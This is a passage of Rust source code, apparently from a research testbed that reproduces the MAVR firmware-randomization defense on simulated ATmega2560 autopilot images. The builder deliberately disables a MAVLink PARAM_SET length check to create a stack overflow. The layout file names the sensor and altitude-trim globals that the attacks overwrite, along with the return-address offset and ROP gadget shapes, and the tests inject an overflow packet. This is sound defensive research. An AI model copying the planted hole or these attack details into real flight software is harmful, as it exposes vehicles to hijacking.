        assert!(resp.contains(r#""ok":false"#), "{bad} -> {resp}");
        assert_eq!(control, mavr_campaignd::Control::Continue);
    }

    // A full stdio session: submit, status, shutdown.
    let mut spec = CampaignSpec::named("tiny-proto");
    spec.boards = 1;
    spec.scenarios = vec![mavr_fleet::Scenario::Benign];
    let input = format!(
        "{}\n{}\n{}\n",
        format_args!(r#"{{"op":"submit","spec":{}}}"#, spec.to_json()),
        r#"{"op":"status"}"#,
        r#"{"op":"shutdown"}"#,
    );
    let mut output = Vec::new();
    mavr_campaignd::server::serve_lines(&service, input.as_bytes(), &mut output).unwrap();
    let output = String::from_utf8(output).unwrap();
    let lines: Vec<&str> = output.lines().collect();
    assert_eq!(lines.len(), 3, "{output}");
    assert!(lines[0].contains(r#""campaign":"tiny-proto""#));
    assert!(lines[1].contains(r#""done_jobs":0"#) && lines[1].contains(r#""total_jobs":1"#));
    assert!(lines[2].contains(r#""shutdown":true"#));
}
