//! Synthetic autopilot firmware generator.
//!
//! The paper evaluates MAVR on ArduPlane, ArduCopter and ArduRover — large
//! AVR applications we cannot compile here. This crate builds the closest
//! synthetic equivalents: **runnable** ATmega2560 firmware images, emitted
//! through the [`avr_asm`] substrate, with exactly the structural properties
//! the attacks and the defense depend on:
//!
//! * a main control loop that toggles the heartbeat pin the MAVR master
//!   watches, updates gyroscope/accelerometer/magnetometer state in SRAM,
//!   and streams MAVLink HEARTBEAT + RAW_IMU telemetry over the UART;
//! * a byte-at-a-time MAVLink receive state machine with CRC checking, and
//!   a PARAM_SET handler that copies the payload into a fixed 30-byte stack
//!   buffer — with the length check **disabled** when
//!   [`BuildOptions::vulnerable`] is set, reproducing the injected
//!   vulnerability of §IV-B;
//! * the two gadget shapes of Figs. 4 and 5 arising naturally from
//!   function epilogues: the frame-teardown `stk_move` sequence
//!   (`out 0x3e,r29 ; out 0x3f,r0 ; out 0x3d,r28 ; pop pop pop ; ret`) and
//!   the `write_mem` sequence (`std Y+1..Y+3 ; pop r29 ... pop r4 ; ret`);
//! * hundreds of deterministic, seeded filler functions (leaf arithmetic,
//!   frame functions, callee-save writers, callers, switch trampolines and
//!   vtable-style indirect dispatch) that give the image the function count
//!   of the paper's Table I and — after calibration padding — the code
//!   sizes of Table III;
//! * both toolchain variants of §VI-B1 (`stock` = relaxation +
//!   call-prologues; `mavr` = `--no-relax` + `-mno-call-prologues`).
//!
//! # Example
//!
//! ```
//! use synth_firmware::{apps, build, BuildOptions};
//!
//! let spec = apps::tiny_test_app(); // small app for fast tests
//! let fw = build(&spec, &BuildOptions::vulnerable_mavr()).unwrap();
//! assert!(fw.image.function_count() > 10);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod apps;
mod builder;
mod corefn;
mod filler;
pub mod layout;

pub use builder::{build, BuildOptions, FirmwareBuild};

/// Specification of one synthetic application, calibrated against the
/// paper's reported numbers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AppSpec {
    /// Application name (e.g. "SynthPlane").
    pub name: &'static str,
    /// Target number of randomizable function symbols (Table I).
    pub functions: usize,
    /// Target code size in bytes when built with the stock toolchain
    /// (Table III "Stock Code Size"). `None` disables calibration padding.
    pub stock_size: Option<u32>,
    /// Target code size in bytes when built with the MAVR toolchain
    /// (Table III "MAVR Code Size").
    pub mavr_size: Option<u32>,
    /// RNG seed for deterministic filler generation.
    pub seed: u64,
    /// HEARTBEAT vehicle-type byte (1 = plane, 2 = copter, 10 = rover).
    pub vehicle_type: u8,
    /// Whether the firmware carries the closed-loop flight controller
    /// (ADC sensor reads + PWM motor writes). Non-flight builds are
    /// byte-identical to what the generator produced before this flag
    /// existed.
    pub flight: bool,
}
