//! SRAM layout of the synthetic firmware: every global the generated code
//! touches, at a fixed, documented address.
//!
//! These addresses are "known to the attacker" in exactly the paper's sense:
//! they are visible in the unprotected binary's `lds`/`sts` instructions,
//! which the attacker is assumed to possess (§IV-A). MAVR randomization
//! moves *code*, not data, so none of these move.

/// First SRAM address on the ATmega2560.
pub const SRAM_START: u16 = 0x0200;

// ---- control state ----
/// 16-bit loop tick counter (low byte first).
pub const TICK: u16 = 0x0200;
/// Gyroscope sample block: X, Y, Z as little-endian i16 (6 bytes).
/// **This is the sensor value the paper's attack V1 overwrites.**
pub const GYRO: u16 = 0x0202;
/// Accelerometer block (6 bytes).
pub const ACC: u16 = 0x0208;
/// Magnetometer block (6 bytes).
pub const MAG: u16 = 0x020e;
/// 3-byte staging area for the IMU commit path (feeds r5/r6/r7 of the
/// `write_mem` epilogue function).
pub const STAGE: u16 = 0x0214;
/// Last PARAM_SET value received (4 bytes, f32).
pub const PARAM_VALUE: u16 = 0x0218;
/// Count of dispatched PARAM_SET packets.
pub const PARAM_SET_COUNT: u16 = 0x021c;
/// Count of dispatched COMMAND packets.
pub const COMMAND_COUNT: u16 = 0x021d;
/// 16-bit soft clock incremented by the TIMER0 overflow ISR.
pub const SOFT_CLOCK: u16 = 0x021e;
/// Counter incremented by the RTOS-style task dispatcher's beacon task.
pub const TASK_TICK: u16 = 0x027a;
/// Signed altitude-setpoint trim (flight apps only; meters of offset added
/// to the hold altitude). Benign firmware leaves it 0. **This is the global
/// the V2 stealthy attack overwrites on flight builds**: a small write here
/// quietly walks the vehicle away from its commanded altitude while every
/// heartbeat keeps flowing.
pub const ALT_TRIM: u16 = 0x0265;

// ---- MAVLink transmit ----
/// Outgoing frame assembly buffer (6-byte header + up to 64 payload).
pub const TX_BUF: u16 = 0x0220;
/// Payload length of the frame in `TX_BUF`.
pub const TX_LEN: u16 = 0x0262;
/// Transmit sequence counter.
pub const TX_SEQ: u16 = 0x0263;
/// `crc_extra` byte for the frame in `TX_BUF`.
pub const TX_CRC_EXTRA: u16 = 0x0264;

// ---- MAVLink receive ----
/// Parser state (0 = idle … 8 = crc2).
pub const RX_STATE: u16 = 0x0270;
/// Declared payload length of the frame being received.
pub const RX_LEN: u16 = 0x0271;
/// Payload bytes received so far.
pub const RX_CNT: u16 = 0x0272;
/// Message id of the frame being received.
pub const RX_MSGID: u16 = 0x0273;
/// Running CRC, low byte.
pub const RX_CRC_L: u16 = 0x0274;
/// Running CRC, high byte.
pub const RX_CRC_H: u16 = 0x0275;
/// Received CRC low byte (awaiting the high byte).
pub const RX_RCV_CRC_L: u16 = 0x0276;
/// Write cursor into `RX_BUF`, low byte.
pub const RX_PTR_L: u16 = 0x0277;
/// Write cursor into `RX_BUF`, high byte.
pub const RX_PTR_H: u16 = 0x0278;
/// Count of frames dropped for bad checksum.
pub const BAD_CRC_COUNT: u16 = 0x0279;

/// Received-payload buffer (256 bytes). The MAVLink *receive* buffer is
/// heap/global; the vulnerable copy is from here into the handler's stack
/// buffer.
pub const RX_BUF: u16 = 0x0300;

/// Base of the per-filler scratch region; filler `i` owns four bytes at
/// `FILLER_SCRATCH + 4 * (i % FILLER_SCRATCH_SLOTS)`.
pub const FILLER_SCRATCH: u16 = 0x0400;
/// Number of four-byte scratch slots.
pub const FILLER_SCRATCH_SLOTS: u16 = 512;

/// Scratch slot address for filler `i`.
pub fn filler_slot(i: usize) -> u16 {
    FILLER_SCRATCH + 4 * (i as u16 % FILLER_SCRATCH_SLOTS)
}

/// Stack-buffer size in the PARAM_SET handler (the declared object the
/// copy is *supposed* to stay within; the frame is larger because the
/// handler keeps other locals too).
pub const HANDLER_BUF: u8 = 30;
/// Stack frame size of the PARAM_SET handler. Larger than 63 bytes, so the
/// prologue/epilogue use the avr-gcc `subi`/`sbci` frame idiom rather than
/// `sbiw`/`adiw`. The frame is also the room an attacker has for a gadget
/// chain placed *inside* the buffer (the paper moves SP "to the beginning
/// of the buffer", §IV-D).
pub const HANDLER_FRAME: u16 = 192;

/// Offset from the start of the handler's stack buffer to the saved return
/// address (3 bytes, stored big-endian). Layout above the buffer:
/// `HANDLER_FRAME` bytes of locals, then saved r28, r29, r16, then the
/// return address.
pub const RET_ADDR_OFFSET: usize = HANDLER_FRAME as usize + 3;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn regions_do_not_overlap() {
        // (start, len) of every fixed region.
        let regions: &[(u16, u16)] = &[
            (TICK, 2),
            (GYRO, 6),
            (ACC, 6),
            (MAG, 6),
            (STAGE, 3),
            (PARAM_VALUE, 4),
            (PARAM_SET_COUNT, 1),
            (COMMAND_COUNT, 1),
            (SOFT_CLOCK, 2),
            (TX_BUF, 0x42),
            (TX_LEN, 1),
            (TX_SEQ, 1),
            (TX_CRC_EXTRA, 1),
            (RX_STATE, 1),
            (RX_LEN, 1),
            (RX_CNT, 1),
            (RX_MSGID, 1),
            (RX_CRC_L, 1),
            (RX_CRC_H, 1),
            (RX_RCV_CRC_L, 1),
            (RX_PTR_L, 1),
            (RX_PTR_H, 1),
            (BAD_CRC_COUNT, 1),
            (TASK_TICK, 1),
            (ALT_TRIM, 1),
            (RX_BUF, 256),
            (FILLER_SCRATCH, 4 * FILLER_SCRATCH_SLOTS),
        ];
        for (i, &(a, al)) in regions.iter().enumerate() {
            assert!(a >= SRAM_START);
            for &(b, bl) in &regions[i + 1..] {
                assert!(
                    a + al <= b || b + bl <= a,
                    "regions {a:#x}+{al} and {b:#x}+{bl} overlap"
                );
            }
        }
    }

    #[test]
    fn scratch_stays_clear_of_stack() {
        // Leave at least 6 KiB of headroom for the stack.
        let scratch_end = FILLER_SCRATCH + 4 * FILLER_SCRATCH_SLOTS;
        assert!(scratch_end <= 0x0c00);
    }

    #[test]
    fn ret_addr_offset_matches_frame_shape() {
        assert_eq!(RET_ADDR_OFFSET, 195);
        assert!(u16::from(HANDLER_BUF) < HANDLER_FRAME);
    }
}
