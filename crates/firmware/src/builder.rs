//! Assemble a complete application: core + fillers + rodata, linked and
//! calibrated to the paper's reported sizes.

use avr_asm::{link, AsmError, DataObject, Program, ToolchainOptions};
use avr_core::device::ATMEGA2560;
use avr_core::image::FirmwareImage;

use crate::{corefn, filler, AppSpec};

/// ATmega2560 interrupt vector count.
const N_VECTORS: usize = 57;

/// Functions that are not fillers: the 19 core functions, `busy_work`,
/// `run_tasks`, and `__bad_interrupt`. Flight builds add `adc_read` and
/// `flight_control` on top.
const NON_FILLER_FUNCTIONS: usize = 22;

fn non_filler_functions(spec: &AppSpec) -> usize {
    NON_FILLER_FUNCTIONS + if spec.flight { 2 } else { 0 }
}

/// Build-time options.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BuildOptions {
    /// Toolchain flags (stock vs MAVR custom toolchain, §VI-B1).
    pub toolchain: ToolchainOptions,
    /// Whether the PARAM_SET length check is disabled (the injected
    /// vulnerability of §IV-B).
    pub vulnerable: bool,
    /// Include a serial bootloader stub pinned at a fixed location. The
    /// paper warns (§VI-B4) that "as the software bootloader must sit at a
    /// fixed location, it provides targets for an ROP attack; in a
    /// production system, the hardware In-System Programming functionality
    /// … would be used instead". Off by default (the production
    /// configuration); turn on for the ablation.
    pub serial_bootloader: bool,
}

impl BuildOptions {
    /// MAVR toolchain with the injected vulnerability — the attack target.
    pub fn vulnerable_mavr() -> Self {
        BuildOptions {
            toolchain: ToolchainOptions::mavr(),
            vulnerable: true,
            serial_bootloader: false,
        }
    }

    /// MAVR toolchain, no vulnerability.
    pub fn safe_mavr() -> Self {
        BuildOptions {
            toolchain: ToolchainOptions::mavr(),
            vulnerable: false,
            serial_bootloader: false,
        }
    }

    /// Stock toolchain (relaxation + call-prologues), vulnerable.
    pub fn vulnerable_stock() -> Self {
        BuildOptions {
            toolchain: ToolchainOptions::stock(),
            vulnerable: true,
            serial_bootloader: false,
        }
    }

    /// Stock toolchain, no vulnerability.
    pub fn safe_stock() -> Self {
        BuildOptions {
            toolchain: ToolchainOptions::stock(),
            vulnerable: false,
            serial_bootloader: false,
        }
    }
}

/// A built application.
#[derive(Debug, Clone)]
pub struct FirmwareBuild {
    /// The linked image (with full symbol table — the pre-strip ELF view).
    pub image: FirmwareImage,
    /// The spec it was built from.
    pub spec: AppSpec,
    /// The options used.
    pub options: BuildOptions,
}

/// Build the application described by `spec` under `options`.
///
/// When the spec carries a calibration size target for the selected
/// toolchain, the filler ALU mass is scaled toward it and a
/// `__calibration_pad` rodata object tops the image up to the exact byte
/// count, so the harness regenerates the paper's Table III rows.
pub fn build(spec: &AppSpec, options: &BuildOptions) -> Result<FirmwareBuild, AsmError> {
    let target = if options.toolchain.relax {
        spec.stock_size
    } else {
        spec.mavr_size
    };
    assert!(
        spec.functions > non_filler_functions(spec) + filler::N_LADDER + 4,
        "spec.functions too small"
    );
    let n_fillers = spec.functions - non_filler_functions(spec);

    // First guess for the ALU mass per filler.
    let mut avg_body_words = match target {
        Some(t) => (((t as u64 * 88 / 100) / n_fillers as u64) / 2).clamp(8, 400) as u32,
        None => 16,
    };

    for _attempt in 0..4 {
        let image = build_once(spec, options, n_fillers, avg_body_words)?;
        match target {
            None => {
                return Ok(FirmwareBuild {
                    image,
                    spec: spec.clone(),
                    options: *options,
                })
            }
            Some(t) => {
                let natural = image.code_size();
                if natural <= t {
                    let image = pad_to(spec, options, n_fillers, avg_body_words, t)?;
                    return Ok(FirmwareBuild {
                        image,
                        spec: spec.clone(),
                        options: *options,
                    });
                }
                // Overshot: scale the ALU mass down and retry.
                avg_body_words = ((u64::from(avg_body_words) * u64::from(t) * 85 / 100)
                    / u64::from(natural))
                .max(8) as u32;
            }
        }
    }
    Err(AsmError::ImageTooLarge {
        required: 0,
        available: target.unwrap_or(0),
    })
}

fn assemble_program(
    spec: &AppSpec,
    options: &BuildOptions,
    n_fillers: usize,
    avg_body_words: u32,
) -> Program {
    let mut p = Program::new(ATMEGA2560, N_VECTORS);
    p.toolchain = options.toolchain;
    p.vectors[0] = Some("__init".to_string());
    p.vectors[avr_sim::timer::TIMER0_OVF_VECTOR as usize] = Some("timer0_ovf_isr".to_string());
    for f in corefn::core_functions(spec.vehicle_type, options.vulnerable, spec.flight) {
        p.push_function(f);
    }
    let fillers = filler::generate(n_fillers, spec.seed, options.toolchain, avg_body_words);
    for f in fillers.functions {
        p.push_function(f);
    }
    if options.serial_bootloader {
        // Define __bad_interrupt explicitly so the linker does not append
        // it *after* the pinned bootloader, which would split the movable
        // region.
        p.push_function(
            avr_asm::FnBuilder::new("__bad_interrupt")
                .insn(avr_core::Insn::Jmp { k: 0 })
                .build(),
        );
        p.push_function(corefn::serial_bootloader());
    }
    p.rodata.extend(fillers.rodata);
    p
}

fn build_once(
    spec: &AppSpec,
    options: &BuildOptions,
    n_fillers: usize,
    avg_body_words: u32,
) -> Result<FirmwareImage, AsmError> {
    link(&assemble_program(spec, options, n_fillers, avg_body_words))
}

fn pad_to(
    spec: &AppSpec,
    options: &BuildOptions,
    n_fillers: usize,
    avg_body_words: u32,
    target: u32,
) -> Result<FirmwareImage, AsmError> {
    let mut p = assemble_program(spec, options, n_fillers, avg_body_words);
    let natural = link(&p)?.code_size();
    let pad = (target - natural) as usize;
    if pad > 0 {
        // 0xa5/0x5a filler, even length handled by the linker.
        let bytes = (0..pad)
            .map(|i| if i % 2 == 0 { 0xa5 } else { 0x5a })
            .collect();
        p.rodata.push(DataObject::new("__calibration_pad", bytes));
    }
    let image = link(&p)?;
    debug_assert_eq!(image.code_size(), target);
    Ok(image)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps;
    use crate::layout as l;
    use avr_sim::{Machine, RunExit};
    use mavlink_lite::{msg, GroundStation};

    fn boot(fw: &FirmwareBuild) -> Machine {
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &fw.image.bytes);
        m
    }

    /// One main-loop iteration is comfortably under this budget.
    const LOOP_CYCLES: u64 = 60_000;

    #[test]
    fn tiny_app_links_and_counts_functions() {
        let spec = apps::tiny_test_app();
        let fw = build(&spec, &BuildOptions::vulnerable_mavr()).unwrap();
        fw.image.validate().unwrap();
        assert_eq!(fw.image.function_count(), spec.functions);
        assert!(fw.image.symbol("main_loop").is_some());
        assert!(fw.image.symbol("dispatch_table").is_some());
        assert!(!fw.image.fn_ptr_locs.is_empty());
    }

    #[test]
    fn firmware_runs_and_heartbeats() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
        let mut m = boot(&fw);
        let exit = m.run(20 * LOOP_CYCLES);
        assert_eq!(exit, RunExit::CyclesExhausted, "fault: {:?}", m.fault());
        assert!(
            m.heartbeat.toggles().len() >= 10,
            "only {} heartbeat toggles",
            m.heartbeat.toggles().len()
        );
    }

    #[test]
    fn telemetry_is_valid_mavlink() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(20 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        let tx = m.uart0.take_tx();
        assert!(!tx.is_empty());
        gcs.ingest(&tx);
        assert_eq!(gcs.bad_checksums(), 0, "firmware CRC must match spec CRC");
        assert!(gcs.heartbeats.len() >= 10);
        // RAW_IMU frames carry the gyro pattern: gyro[0] = lo(tick).
        let imu = gcs
            .received
            .iter()
            .rfind(|p| p.msgid == msg::RAW_IMU_ID)
            .expect("RAW_IMU telemetry");
        let raw = msg::RawImu::from_payload(imu.msgid, &imu.payload).unwrap();
        let tick = raw.time_usec as u16;
        assert_eq!(raw.gyro[0] as u16 & 0xff, u16::from((tick & 0xff) as u8));
    }

    #[test]
    fn benign_param_set_is_processed() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(2 * LOOP_CYCLES); // let it boot
        let mut gcs = GroundStation::new();
        m.uart0.inject(&gcs.param_set(b"RATE_RLL_P", 1.5f32));
        let exit = m.run(20 * LOOP_CYCLES);
        assert_eq!(exit, RunExit::CyclesExhausted, "fault: {:?}", m.fault());
        assert_eq!(m.peek_data(l::PARAM_SET_COUNT), 1, "handler dispatched");
        let v = f32::from_le_bytes([
            m.peek_data(l::PARAM_VALUE),
            m.peek_data(l::PARAM_VALUE + 1),
            m.peek_data(l::PARAM_VALUE + 2),
            m.peek_data(l::PARAM_VALUE + 3),
        ]);
        assert_eq!(v, 1.5);
    }

    #[test]
    fn command_long_dispatches_to_handler() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        m.uart0
            .inject(&gcs.command_long(400, [1.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0]));
        m.uart0.inject(&gcs.command_long(400, [0.0; 7]));
        m.run(20 * LOOP_CYCLES);
        assert_eq!(m.peek_data(l::COMMAND_COUNT), 2, "both commands handled");
        assert_eq!(m.peek_data(l::BAD_CRC_COUNT), 0);
    }

    #[test]
    fn safe_build_survives_oversized_packet() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        let wire = gcs.exploit_packet(&[0x41; 200]).unwrap();
        m.uart0.inject(&wire);
        let exit = m.run(20 * LOOP_CYCLES);
        assert_eq!(exit, RunExit::CyclesExhausted, "fault: {:?}", m.fault());
        assert_eq!(m.peek_data(l::PARAM_SET_COUNT), 1);
    }

    #[test]
    fn vulnerable_build_crashes_on_naive_overflow() {
        // 0x41-filled payload overwrites the return address with garbage —
        // the pre-stealth failure mode the paper starts from.
        let fw = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        let wire = gcs.exploit_packet(&[0x41; 200]).unwrap();
        m.uart0.inject(&wire);
        let exit = m.run(40 * LOOP_CYCLES);
        assert!(
            !exit.is_healthy(),
            "naive overflow must crash the vulnerable build"
        );
    }

    #[test]
    fn stock_toolchain_build_also_runs() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_stock()).unwrap();
        assert!(fw.image.symbol("__prologue_saves__").is_some());
        let mut m = boot(&fw);
        let exit = m.run(20 * LOOP_CYCLES);
        assert_eq!(exit, RunExit::CyclesExhausted, "fault: {:?}", m.fault());
        assert!(m.heartbeat.toggles().len() >= 10);
    }

    #[test]
    fn stock_is_smaller_than_mavr_naturally() {
        // Without calibration targets, relaxation + call-prologues shrink
        // the image — the reason the flags exist.
        let spec = apps::tiny_test_app();
        let stock = build(&spec, &BuildOptions::safe_stock()).unwrap();
        let mavr = build(&spec, &BuildOptions::safe_mavr()).unwrap();
        assert!(
            stock.image.code_size() < mavr.image.code_size(),
            "stock {} vs mavr {}",
            stock.image.code_size(),
            mavr.image.code_size()
        );
    }

    #[test]
    fn lying_length_field_cannot_crash_the_parser() {
        // A frame claiming more payload than it carries makes the state
        // machine consume following bytes; the checksum then fails, the
        // parser resyncs on the next magic byte, and later frames land.
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        let lying = gcs.malformed_packet(&[0xaa; 8], 200);
        m.uart0.inject(&lying);
        // Filler completes the lying frame's claimed 200-byte payload (the
        // parser consumes these as payload, then fails the checksum).
        m.uart0.inject(&[0x00; 220]);
        m.uart0.inject(&gcs.param_set(b"A", 1.0));
        m.uart0.inject(&gcs.param_set(b"B", 2.0));
        let exit = m.run(40 * LOOP_CYCLES);
        assert_eq!(exit, RunExit::CyclesExhausted, "fault: {:?}", m.fault());
        assert!(m.peek_data(l::BAD_CRC_COUNT) >= 1, "garbage frame dropped");
        assert!(m.peek_data(l::PARAM_SET_COUNT) >= 1, "parser resynced");
    }

    #[test]
    fn rtos_task_table_dispatches_every_round() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        assert!(fw.image.symbol("task_table").is_some());
        let mut m = boot(&fw);
        m.run(20 * LOOP_CYCLES);
        let ticks = m.peek_data(l::TASK_TICK);
        let loops = u16::from_le_bytes([m.peek_data(l::TICK), m.peek_data(l::TICK + 1)]);
        assert!(ticks > 0);
        // One beacon tick per loop; the 8-bit counter wraps, and the run
        // may stop between the tick increment and the scheduler call.
        let expected = (loops % 256) as u8;
        let diff = expected.wrapping_sub(ticks);
        assert!(diff <= 1, "beacon {ticks} vs loops {loops}");
    }

    #[test]
    fn params_persist_in_eeprom_across_reset() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        m.uart0.inject(&gcs.param_set(b"RATE_RLL_P", 2.25));
        m.run(20 * LOOP_CYCLES);
        assert_eq!(
            f32::from_le_bytes(m.eeprom.bytes()[0..4].try_into().unwrap()),
            2.25,
            "handler persisted the parameter"
        );
        // Scrub the SRAM copy, reset, and boot: param_load restores it.
        for i in 0..4 {
            m.poke_data(l::PARAM_VALUE + i, 0);
        }
        m.reset();
        m.run(2 * LOOP_CYCLES);
        let restored = f32::from_le_bytes([
            m.peek_data(l::PARAM_VALUE),
            m.peek_data(l::PARAM_VALUE + 1),
            m.peek_data(l::PARAM_VALUE + 2),
            m.peek_data(l::PARAM_VALUE + 3),
        ]);
        assert_eq!(restored, 2.25, "EEPROM survives reset; SRAM copy restored");
    }

    #[test]
    fn sys_status_reports_the_papers_cpu_load() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(20 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        gcs.ingest(&m.uart0.take_tx());
        assert_eq!(gcs.bad_checksums(), 0);
        let s = gcs.sys_status.last().expect("SYS_STATUS telemetry");
        assert_eq!(s.load, 960, "§III: ~96% CPU usage");
        assert_eq!(s.battery_remaining, 80);
        assert_eq!(s.sensors_present, 0x07);
        // Roughly one SYS_STATUS per 8 heartbeats.
        assert!(gcs.sys_status.len() >= gcs.heartbeats.len() / 10);
    }

    #[test]
    fn timer_isr_ticks_the_soft_clock() {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut m = boot(&fw);
        m.run(20 * LOOP_CYCLES); // 1.2M cycles; overflow every 16384
        let clock =
            u16::from_le_bytes([m.peek_data(l::SOFT_CLOCK), m.peek_data(l::SOFT_CLOCK + 1)]);
        let expected = m.cycles() / 16_384;
        assert!(
            (i64::from(clock) - expected as i64).abs() <= 2,
            "soft clock {clock} vs ~{expected} overflows"
        );
    }

    #[test]
    fn serial_bootloader_is_pinned() {
        let mut opts = BuildOptions::safe_mavr();
        opts.serial_bootloader = true;
        let fw = build(&apps::tiny_test_app(), &opts).unwrap();
        let bl = fw.image.symbol("__bootloader").unwrap();
        assert_eq!(bl.kind, avr_core::image::SymbolKind::Fixed);
        // It is not counted among the randomizable functions.
        assert_eq!(fw.image.function_count(), apps::tiny_test_app().functions);
    }

    #[test]
    fn flight_app_drives_pwm_from_adc() {
        let spec = apps::synth_quad_flight();
        let fw = build(&spec, &BuildOptions::safe_mavr()).unwrap();
        assert_eq!(fw.image.function_count(), spec.functions);
        assert!(fw.image.symbol("flight_control").is_some());
        let mut m = boot(&fw);
        // Baro on channel 2: 60 counts after the 8-bit left-adjusted read
        // (40 below the 100-count setpoint); pitch-rate gyro on channel 0:
        // 136 (8 above center).
        m.adc.channels[2] = 60 << 2;
        m.adc.channels[0] = 136 << 2;
        let exit = m.run(20 * LOOP_CYCLES);
        assert_eq!(exit, RunExit::CyclesExhausted, "fault: {:?}", m.fault());
        // thrust = 140 + 2 * (100 - 60) = 220.
        assert_eq!(m.pwm.ocr0a, 220);
        // damping torque = -rate mod 256.
        assert_eq!(m.pwm.ocr0b, 136u8.wrapping_neg());
        // Altitude way above the setpoint rails the thrust to zero.
        m.adc.channels[2] = 250 << 2;
        m.run(20 * LOOP_CYCLES);
        assert_eq!(m.pwm.ocr0a, 0);
        // The trim global shifts the setpoint — the V2 coupling point.
        m.adc.channels[2] = 100 << 2;
        m.poke_data(l::ALT_TRIM, 30);
        m.run(20 * LOOP_CYCLES);
        assert_eq!(m.pwm.ocr0a, 200, "trim walks the thrust command");
    }

    #[test]
    fn builds_are_deterministic() {
        let spec = apps::tiny_test_app();
        let a = build(&spec, &BuildOptions::vulnerable_mavr()).unwrap();
        let b = build(&spec, &BuildOptions::vulnerable_mavr()).unwrap();
        assert_eq!(a.image, b.image);
    }
}
