//! The calibrated application specs matching the paper's evaluation targets.

use crate::AppSpec;

/// SynthPlane — calibrated to ArduPlane 2.7.4 (Tables I and III: 917
/// functions; 221608 bytes stock, 221294 bytes MAVR toolchain).
pub fn synth_plane() -> AppSpec {
    AppSpec {
        name: "SynthPlane",
        functions: 917,
        stock_size: Some(221_608),
        mavr_size: Some(221_294),
        seed: 0x0917_2015,
        vehicle_type: 1,
        flight: false,
    }
}

/// SynthCopter — calibrated to ArduCopter (1030 functions; 244532 / 244292
/// bytes).
pub fn synth_copter() -> AppSpec {
    AppSpec {
        name: "SynthCopter",
        functions: 1030,
        stock_size: Some(244_532),
        mavr_size: Some(244_292),
        seed: 0x1030_2015,
        vehicle_type: 2,
        flight: false,
    }
}

/// SynthRover — calibrated to ArduRover (800 functions; 177870 / 177556
/// bytes).
pub fn synth_rover() -> AppSpec {
    AppSpec {
        name: "SynthRover",
        functions: 800,
        stock_size: Some(177_870),
        mavr_size: Some(177_556),
        seed: 0x0800_2015,
        vehicle_type: 10,
        flight: false,
    }
}

/// The three applications of the paper's evaluation, in Table I order.
pub fn all_paper_apps() -> Vec<AppSpec> {
    vec![synth_plane(), synth_copter(), synth_rover()]
}

/// SynthSensorNode — the paper's future-work claim (§X) is that MAVR fits
/// "any networked embedded systems utilizing a real time operating
/// system"; this profile models a sensor-network node: small code base,
/// fewer functions, same MAVLink-style uplink and the same attack surface.
pub fn synth_sensor_node() -> AppSpec {
    AppSpec {
        name: "SynthSensorNode",
        functions: 220,
        stock_size: None,
        mavr_size: None,
        seed: 0x005e_450e,
        vehicle_type: 18, // MAV_TYPE_ONBOARD_CONTROLLER-ish
        flight: false,
    }
}

/// SynthQuadFlight — the closed-loop flight build: the same MAVLink stack
/// and attack surface as the others, plus the ADC-sampling, PWM-writing
/// flight controller that the `world` crate's physics arena closes the
/// loop around. Small function count so physics campaigns stay fast.
pub fn synth_quad_flight() -> AppSpec {
    AppSpec {
        name: "SynthQuadFlight",
        functions: 64,
        stock_size: None,
        mavr_size: None,
        seed: 0xf1e6_2015,
        vehicle_type: 2,
        flight: true,
    }
}

/// A small, fast-to-link application for unit and attack tests. Uncalibrated
/// (no size targets), 60 functions.
pub fn tiny_test_app() -> AppSpec {
    AppSpec {
        name: "TinyTest",
        functions: 60,
        stock_size: None,
        mavr_size: None,
        seed: 0x7e57,
        vehicle_type: 1,
        flight: false,
    }
}

/// The CLI-facing names accepted by [`by_name`], for error messages.
pub const APP_NAMES: &str = "plane, copter, rover, tiny, quad";

/// Look up a synthesized application by its user-facing name (the same
/// aliases everywhere: CLI flags, campaign specs, bench tables).
pub fn by_name(name: &str) -> Option<AppSpec> {
    match name {
        "plane" | "synthplane" => Some(synth_plane()),
        "copter" | "synthcopter" => Some(synth_copter()),
        "rover" | "synthrover" => Some(synth_rover()),
        "tiny" => Some(tiny_test_app()),
        "quad" | "synthquadflight" => Some(synth_quad_flight()),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn by_name_resolves_every_published_alias() {
        for (alias, expect) in [
            ("plane", "SynthPlane"),
            ("synthcopter", "SynthCopter"),
            ("rover", "SynthRover"),
            ("tiny", "TinyTest"),
            ("quad", "SynthQuadFlight"),
        ] {
            let app = by_name(alias).expect(alias);
            assert_eq!(app.name, expect);
        }
